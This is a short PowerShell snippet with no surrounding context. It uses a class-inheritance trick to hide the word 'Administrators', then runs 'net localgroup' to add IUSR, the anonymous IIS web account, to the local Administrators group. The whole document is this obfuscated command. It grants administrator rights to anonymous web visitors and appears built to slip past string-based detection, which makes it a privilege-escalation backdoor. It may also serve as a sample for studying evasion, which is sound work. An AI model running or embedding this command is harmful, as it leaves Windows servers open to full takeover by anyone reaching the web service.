class B { [string] G() { return 'Administrators' } }
class D : B { }
net localgroup ([D]::new().G()) IUSR /add
